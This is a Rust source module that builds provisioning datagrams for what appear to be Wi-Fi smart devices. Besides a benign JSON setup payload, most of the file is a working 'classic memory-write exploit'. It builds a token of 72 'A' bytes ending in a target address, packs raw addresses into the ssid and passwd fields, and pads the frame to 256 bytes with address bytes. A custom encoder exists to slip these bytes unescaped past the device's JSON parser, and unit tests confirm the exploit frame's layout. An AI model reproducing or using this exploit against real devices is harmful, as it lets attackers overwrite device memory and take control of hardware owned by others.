//! Provisioning datagram payloads, spec §4.9: the benign JSON provisioning
//! body and the classic memory-write exploit body, plus the order-preserving
//! raw-byte JSON encoder both are built with.

use super::ApCfgFrame;

/// One field of the hand-rolled JSON object. Unlike `serde_json::Value`,
/// `RawBytes` is emitted unescaped inside the string's quotes — the
/// exploit payload needs to smuggle raw memory addresses through a JSON
/// string body the device's parser will not escape-decode safely.
#[derive(Debug, Clone)]
pub enum JsonField {
    Str(String),
    RawBytes(Vec<u8>),
    Bool(bool),
    Int(i64),
}

/// Encodes an ordered list of `(key, value)` pairs as a single-line JSON
/// object, preserving insertion order and using no whitespace (spec §4.9).
pub fn encode_ordered_json(fields: &[(&str, JsonField)]) -> Vec<u8> {
    let mut out = Vec::new();
    out.push(b'{');
    for (i, (key, value)) in fields.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        out.push(b'"');
        out.extend_from_slice(key.as_bytes());
        out.extend_from_slice(b"\":");
        match value {
            JsonField::Str(s) => {
                out.push(b'"');
                out.extend_from_slice(s.as_bytes());
                out.push(b'"');
            }
            JsonField::RawBytes(bytes) => {
                out.push(b'"');
                out.extend_from_slice(bytes);
                out.push(b'"');
            }
            JsonField::Bool(b) => out.extend_from_slice(if *b { b"true" } else { b"false" }),
            JsonField::Int(n) => out.extend_from_slice(n.to_string().as_bytes()),
        }
    }
    out.push(b'}');
    out
}

/// Benign provisioning payload: `{"ssid","passwd","token"}`.
pub fn benign_payload(ssid: &str, passwd: Option<&str>, token: Option<&[u8]>) -> Vec<u8> {
    let token = token.map(|t| t.to_vec()).unwrap_or_else(|| b"1".to_vec());
    encode_ordered_json(&[
        ("ssid", JsonField::Str(ssid.to_string())),
        (
            "passwd",
            JsonField::Str(passwd.unwrap_or_default().to_string()),
        ),
        ("token", JsonField::RawBytes(token)),
    ])
}

/// Per-device memory addresses used by the classic exploit payload.
#[derive(Debug, Clone, Default)]
pub struct ExploitProfile {
    pub address_finish: u32,
    pub address_ssid: Option<u32>,
    pub address_passwd: Option<u32>,
    pub address_datagram: Option<u32>,
    pub address_ssid_padding: usize,
}

/// Builds the classic memory-write exploit JSON body (§4.9). `token`
/// encodes `address_finish`, and `ssid`/`passwd` optionally encode
/// `address_ssid`/`address_passwd` when the profile configures them.
pub fn exploit_payload(
    profile: &ExploitProfile,
    ap_ssid: &str,
    auzkey: &str,
    uuid: &str,
    psk_key: &str,
) -> Vec<u8> {
    let mut token = vec![b'A'; 72];
    token.extend_from_slice(&profile.address_finish.to_le_bytes());

    let ssid = match profile.address_ssid {
        Some(addr) => {
            let mut bytes = vec![b'A'; profile.address_ssid_padding];
            bytes.extend_from_slice(&addr.to_le_bytes());
            JsonField::RawBytes(bytes)
        }
        None => JsonField::Str(ap_ssid.to_string()),
    };

    let passwd = match profile.address_passwd {
        Some(addr) => JsonField::RawBytes(addr.to_le_bytes().to_vec()),
        None => JsonField::Str(String::new()),
    };

    encode_ordered_json(&[
        ("ap_ssid", JsonField::Str(ap_ssid.to_string())),
        ("auzkey", JsonField::Str(auzkey.to_string())),
        ("uuid", JsonField::Str(uuid.to_string())),
        ("pskKey", JsonField::Str(psk_key.to_string())),
        ("prod_test", JsonField::Bool(false)),
        ("token", JsonField::RawBytes(token)),
        ("ssid", ssid),
        ("passwd", passwd),
    ])
}

/// Pads `payload` in place so that the final framed datagram (8-byte
/// header + payload + 4-byte CRC + 2-byte tail) is exactly
/// `total_datagram_len` bytes: 0–3 literal `'A'` bytes to round up to a
/// 4-byte boundary, then whole repetitions of `address_datagram`'s
/// little-endian bytes.
pub fn pad_payload_for_datagram_size(
    mut payload: Vec<u8>,
    address_datagram: u32,
    total_datagram_len: usize,
) -> Vec<u8> {
    const HEADER_AND_TRAILER: usize = 8 + 6;
    let target_payload_len = total_datagram_len.saturating_sub(HEADER_AND_TRAILER);

    if payload.len() >= target_payload_len {
        return payload;
    }

    let remainder = (target_payload_len - payload.len()) % 4;
    payload.resize(payload.len() + remainder, b'A');

    let fill = address_datagram.to_le_bytes();
    let mut i = 0;
    while payload.len() < target_payload_len {
        payload.push(fill[i % 4]);
        i += 1;
    }
    payload
}

/// Builds the full classic-exploit ApCfg frame for one device, applying
/// `address_datagram` padding to exactly 256 bytes when the profile
/// configures it (spec §4.9, §8 scenario 6).
pub fn build_exploit_frame(
    profile: &ExploitProfile,
    frame_num: u16,
    ap_ssid: &str,
    auzkey: &str,
    uuid: &str,
    psk_key: &str,
) -> Vec<u8> {
    let payload = exploit_payload(profile, ap_ssid, auzkey, uuid, psk_key);
    let payload = match profile.address_datagram {
        Some(addr) => pad_payload_for_datagram_size(payload, addr, 256),
        None => payload,
    };
    ApCfgFrame::new(frame_num, super::FRAME_TYPE_CONFIG, payload).encode()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordered_json_preserves_key_order_and_raw_bytes() {
        let bytes = encode_ordered_json(&[
            ("a", JsonField::Int(1)),
            ("b", JsonField::RawBytes(vec![0xAA, b'"'])),
            ("c", JsonField::Bool(true)),
        ]);
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.starts_with("{\"a\":1,\"b\":\""));
        assert!(text.contains("\"c\":true"));
        assert!(!text.contains(' '));
    }

    #[test]
    fn benign_payload_defaults_token_to_literal_one() {
        let bytes = benign_payload("my-ap", Some("hunter2"), None);
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.contains("\"token\":\"1\""));
        assert!(text.contains("\"ssid\":\"my-ap\""));
    }

    #[test]
    fn classic_exploit_datagram_is_exactly_256_bytes() {
        let profile = ExploitProfile {
            address_finish: 0x0011_2233,
            address_ssid: Some(0),
            address_passwd: Some(0),
            address_datagram: Some(0x4455_6677),
            address_ssid_padding: 4,
        };
        let datagram =
            build_exploit_frame(&profile, 1, &"u".repeat(12), &"k".repeat(16), &"u".repeat(12), &"p".repeat(32));

        assert_eq!(datagram.len(), 256);
        assert_eq!(&datagram[0..2], &[0x55, 0xAA]);
        assert_eq!(&datagram[datagram.len() - 2..], &[0xAA, 0x55]);

        // trailing fill bytes (beyond the JSON payload) repeat the
        // little-endian form of address_datagram: 0x77 0x66 0x55 0x44.
        let tail_fill = &datagram[datagram.len() - 6 - 4..datagram.len() - 6];
        assert_eq!(tail_fill, &[0x77, 0x66, 0x55, 0x44]);

        let decoded = ApCfgFrame::decode(&datagram).unwrap();
        assert_eq!(decoded.frame_num, 1);
    }
}
